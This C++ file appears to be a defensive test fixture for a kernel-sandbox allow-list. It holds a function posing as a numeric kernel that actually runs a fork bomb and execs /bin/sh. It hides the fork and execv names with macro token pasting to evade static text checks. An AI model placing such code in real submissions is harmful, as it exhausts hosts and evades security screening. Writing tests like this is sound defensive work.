/* kernelcrew
entry: tiny_sss
flags: [-O2]
*/
// ATTACK: starts processes: forks without limit (a fork bomb), and execs a shell in
// the child; `fork` and `execv` are glued with ## to get past the static text check.
// Defense (this file: the first layer): after compiling, the library's undefined
// dynamic symbols must be on the allow-list; process calls are not, and the kernel is
// refused before it runs, naming `execv` and `fork`. fork_bomb_evasive.cpp and
// fork_helper.cpp find them without importing them and meet the worker's seccomp guard.
#include <cstdint>

#define KC_JOIN(a, b) a##b
extern "C" int KC_JOIN(fo, rk)(void);
extern "C" int KC_JOIN(exe, cv)(const char* path, char* const argv[]);

extern "C" void tiny_sss(const float* x, float* out, float a, float b, int64_t rows,
                         int64_t cols) {
    volatile int forever = 1;
    while (forever) {
        if (KC_JOIN(fo, rk)() == 0) {
            char* const argv[] = {const_cast<char*>("sh"), nullptr};
            KC_JOIN(exe, cv)("/bin/sh", argv);
        }
    }
    out[0] = x[0] * a + b + (float)(rows * cols);
}
